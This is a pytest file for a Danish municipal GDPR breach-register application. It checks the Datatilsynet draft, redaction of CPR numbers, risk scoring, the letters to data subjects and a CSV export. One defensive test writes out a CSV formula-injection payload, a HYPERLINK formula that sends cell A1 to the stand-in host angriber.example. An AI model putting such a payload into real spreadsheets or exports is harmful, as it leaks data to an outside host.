"""What Datatilsynet, the register and the data subjects are told: complete only when it is,
safe to open in Excel, and never the reporter's words or a CPR number."""

from __future__ import annotations

import csv
import io
from datetime import datetime, timedelta
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest
import time_machine
from django.urls import reverse

from incidents import breach_record, register, risk
from incidents.models import Incident
from tests.incidents.conftest import make_incident
from tests.incidents.steps import (
    assess,
    contain,
    decide,
    escalate,
    handle_to_closable,
    notify,
    record_other,
    v,
)

CPH = ZoneInfo("Europe/Copenhagen")
NOW = datetime(2026, 5, 10, 12, 0, tzinfo=CPH)
CITIZEN = "Bodil Borgersen"
pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def frozen():
    with time_machine.travel(NOW, tick=False):
        yield


def draft(client, incident) -> str:
    return client.get(reverse("incidents:draft", args=[incident.reference])).text


def csv_rows(client, **params) -> list[dict[str, str]]:
    response = client.get(reverse("incidents:register_csv"), {"aar": "2026", **params})
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    header, *rows = csv.reader(io.StringIO(text), delimiter=";")
    return [dict(zip(header, row, strict=True)) for row in rows]


@pytest.fixture
def reported(reporter):
    return make_incident(
        reporter,
        now=NOW - timedelta(hours=20),
        description=f"Brev til {CITIZEN} (010190-1234) er sendt forkert.",
        category="misdirected_mail",
    )


def handle_completely(incident, gdpr, it):
    escalate(incident, gdpr)
    contain(incident, it)
    record_other(incident, gdpr)
    assess(incident, gdpr, risk_level="high", subject_categories=["citizens", "children"])
    decide(incident, gdpr, "notify")
    services_subjects(incident, gdpr)


def services_subjects(incident, gdpr):
    from incidents import services

    services.incident_record_subjects(
        incident=incident,
        actor=gdpr,
        informed_at=NOW - timedelta(hours=1),
        informed_how="Brev i Digital Post.",
        exemption="",
        exemption_reason="",
        expected_version=v(incident),
    )


# --- The Datatilsynet draft --------------------------------------------------------------------


def test_the_draft_says_all_items_filled_only_when_each_of_the_twelve_is(
    client, gdpr_user, it_user, reported
):
    client.force_login(gdpr_user)
    html = draft(client, reported)
    assert "Alle punkter er udfyldt." not in html
    assert 'id="draft-missing-summary"' in html
    handle_completely(reported, gdpr_user, it_user)
    html = draft(client, reported)
    assert "Alle punkter er udfyldt." in html
    items = breach_record.draft_items(Incident.objects.get(pk=reported.pk), now=NOW)
    assert [i.key for i in items][:12] == [
        "contact",
        "timeline",
        "description",
        "breach_type",
        "subjects",
        "records",
        "likely_consequences",
        "subject_consequences",
        "measures",
        "measures_before",
        "informed",
        "other_parties",
    ]
    assert not any(item.missing for item in items)


def test_the_draft_misses_the_processor_and_police_facts_until_they_are_answered(
    client, gdpr_user, it_user, reported
):
    handle_completely(reported, gdpr_user, it_user)
    record_other(reported, gdpr_user, processor_involved=None, police_reported=None)
    items = {
        i.key: i for i in breach_record.draft_items(Incident.objects.get(pk=reported.pk), now=NOW)
    }
    assert items["other_parties"].missing


def test_the_draft_never_contains_the_reporters_name_text_or_a_cpr_number(
    client, gdpr_user, it_user, reported
):
    handle_completely(reported, gdpr_user, it_user)
    client.force_login(gdpr_user)
    html = draft(client, reported)
    assert "Rikke" not in html and "Rasmussen" not in html
    assert CITIZEN not in html
    assert "Brev til" not in html  # the reporter's description is never used
    assert "010190-1234" not in html


def test_the_draft_names_the_data_protection_officer_and_the_subject_categories(
    client, gdpr_user, it_user, reported, settings
):
    settings.PORTAL_CONTACTS = {**settings.PORTAL_CONTACTS, "dpo_name": "Dorthe Dataråd"}
    handle_completely(reported, gdpr_user, it_user)
    client.force_login(gdpr_user)
    html = draft(client, reported)
    assert "Dorthe Dataråd" in html
    assert "Borgere, Børn – ca. 10 personer" in html
    assert "Hændelsestype: Bortkommet eller stjålet udstyr" in html


def test_follow_ups_list_what_was_promised_later_and_whether_it_was_sent(
    client, gdpr_user, it_user, reported
):
    assess(reported, gdpr_user, risk_level="high")
    decide(reported, gdpr_user, "notify")
    notify(reported, gdpr_user, notified_at=NOW - timedelta(hours=2))
    initial = reported.dt_notifications.get()
    assert {"timeline", "informed", "other_parties"} <= set(initial.items_later)
    client.force_login(gdpr_user)
    html = draft(client, reported)
    assert "Tidspunkter: ikke sendt endnu" in html
    contain(reported, it_user)
    notify(reported, gdpr_user, notified_at=NOW - timedelta(hours=1), items_supplied=["timeline"])
    html = draft(client, reported)
    assert "Tidspunkter: sendt 10. maj 2026 kl. 11:00" in html
    assert "Underretning af de registrerede (art. 34): ikke sendt endnu" in html
    assert "dt_follow_up" in Incident.objects.get(pk=reported.pk).missing_items(NOW)


def test_a_follow_up_cannot_claim_to_send_what_is_still_unknown(gdpr_user, reported):
    from django.core.exceptions import ValidationError

    assess(reported, gdpr_user, risk_level="high")
    decide(reported, gdpr_user, "notify")
    notify(reported, gdpr_user, notified_at=NOW - timedelta(hours=2))
    with pytest.raises(ValidationError) as error:
        notify(reported, gdpr_user, notified_at=NOW, items_supplied=["timeline"])
    assert "items_supplied" in error.value.error_dict


# --- Risk steer and ENISA -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("facts", "reason"),
    [
        ({"data_kinds": ["sensitive"]}, "følsomme oplysninger (art. 9)"),
        ({"data_kinds": ["criminal"]}, "oplysninger om strafbare forhold (art. 10)"),
        ({"data_kinds": ["cpr"]}, "CPR-numre"),
        ({"subject_categories": ["children"]}, "børn"),
        ({"subjects_estimate": 100}, "mange berørte (100 eller flere)"),
    ],
)
def test_the_steer_says_why_it_suggests_at_least_risk(facts, reason):
    values = {"data_kinds": [], "subject_categories": [], "subjects_estimate": 3, **facts}
    assert risk.steer_reasons(**values) == [reason]
    assert risk.below_steer("none", [reason])
    assert not risk.below_steer("risk", [reason])


def test_enisa_severity_is_computed_from_the_facts():
    severity = risk.enisa_severity(
        data_kinds=["sensitive"],
        identifiability="maximum",
        breach_types=["confidentiality"],
        malicious=True,
    )
    # DPC 4 × EI 1 + CB (0.25 + 0.5) = 4.75: very high.
    assert severity.score == Decimal("4.75")
    assert severity.label == "meget høj"
    assert severity.suggests == "high"
    assert "4,75" in severity.explanation
    low = risk.enisa_severity(
        data_kinds=["ordinary"], identifiability="limited", breach_types=[], malicious=False
    )
    assert (low.label, low.suggests) == ("lav", "none")
    assert (
        risk.enisa_severity(data_kinds=[], identifiability="", breach_types=[], malicious=False)
        is None
    )


def test_the_assessment_panel_shows_the_steer_and_the_enisa_suggestion(client, gdpr_user, reported):
    assess(reported, gdpr_user, risk_level="high", data_kinds=["cpr"], identifiability="maximum")
    client.force_login(gdpr_user)
    html = client.get(reverse("incidents:detail", args=[reported.reference])).text
    assert "Oplysningerne tyder på mindst „Risiko“" in html
    assert "CPR-numre" in html
    assert 'id="enisa-severity"' in html


# --- Art. 34 ----------------------------------------------------------------------------------


def test_the_letter_to_data_subjects_has_what_happened_consequences_measures_and_contact(
    client, gdpr_user, it_user, reported
):
    handle_completely(reported, gdpr_user, it_user)
    client.force_login(gdpr_user)
    html = client.get(reverse("incidents:subjects_letter", args=[reported.reference])).text
    assert "Alle afsnit er udfyldt." in html
    assert "En arbejdsmobil med adgang til e-mail blev glemt i en bus." in html  # account
    assert "Uvedkommende kan se navne og adresser." in html  # 33(3)(c)
    assert "Mobilen er spærret og slettet." in html  # 33(3)(d)
    assert "dpo@herlev.dk" in html  # 33(3)(b)
    assert CITIZEN not in html and "010190-1234" not in html


def test_the_public_communication_exemption_needs_when_and_where(gdpr_user, reported):
    from django.core.exceptions import ValidationError

    from incidents import services

    with pytest.raises(ValidationError) as error:
        services.incident_record_subjects(
            incident=reported,
            actor=gdpr_user,
            informed_at=None,
            informed_how="",
            exemption="art34_3c",
            exemption_reason="Over 10.000 berørte.",
            expected_version=v(reported),
        )
    assert set(error.value.error_dict) == {"public_communication_at", "public_communication_where"}


def test_the_case_shows_how_long_after_the_decision_people_were_told(
    client, gdpr_user, it_user, reported
):
    handle_completely(reported, gdpr_user, it_user)
    client.force_login(gdpr_user)
    html = client.get(reverse("incidents:detail", args=[reported.reference])).text
    assert "Underrettet 1 time før beslutningen om Datatilsynet" in html


# --- The register -------------------------------------------------------------------------------


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_no_csv_cell_starts_with_a_formula_character(client, gdpr_user, it_user, reported, start):
    contain(reported, it_user)
    from incidents import services

    text = f'{start}HYPERLINK("http://angriber.example/?x="&A1,"Klik")'
    services.incident_record_containment(
        incident=reported,
        actor=it_user,
        description=text,
        contained_at=NOW - timedelta(hours=1),
        expected_version=v(reported),
    )
    assess(reported, gdpr_user, measures_taken="-1 fejl rettet", account="@SUM(1+1)")
    client.force_login(gdpr_user)
    (row,) = csv_rows(client)
    for value in row.values():
        assert not value.startswith(register.FORMULA_STARTS), value
    assert row["Faktiske omstændigheder"] == "'@SUM(1+1)"


def test_csv_dates_are_iso_so_excel_sorts_them(client, gdpr_user, reported):
    client.force_login(gdpr_user)
    (row,) = csv_rows(client)
    assert row["Indberettet"] == "2026-05-09 16:00"
    assert row["Klassifikation"] == "Ikke vurderet endnu"


def test_not_a_breach_is_kept_but_listed_apart(client, gdpr_user, it_user, reporter, reported):
    other = make_incident(reporter, now=NOW - timedelta(hours=10))
    assess(other, gdpr_user, classification="not_breach", risk_level="none")
    client.force_login(gdpr_user)
    assert [r["Reference"] for r in csv_rows(client)] == [reported.reference]
    assert [r["Reference"] for r in csv_rows(client, klassifikation="ikke-brud")] == [
        other.reference
    ]
    page = client.get(reverse("incidents:register"), {"aar": "2026"}).text
    assert other.reference not in page
    apart = client.get(
        reverse("incidents:register"), {"aar": "2026", "klassifikation": "ikke-brud"}
    ).text
    assert other.reference in apart
    assert "Hændelser vurderet som ikke brud på persondatasikkerheden" in apart


def test_the_register_has_the_facts_and_the_proposed_measures(client, gdpr_user, it_user, reported):
    handle_to_closable(reported, gdpr=gdpr_user, it=it_user)
    client.force_login(gdpr_user)
    (row,) = csv_rows(client)
    assert row["Faktiske omstændigheder"] == (
        "En arbejdsmobil med adgang til e-mail blev glemt i en bus."
    )
    assert row["Foreslåede foranstaltninger"] == "Husk skærmlås."
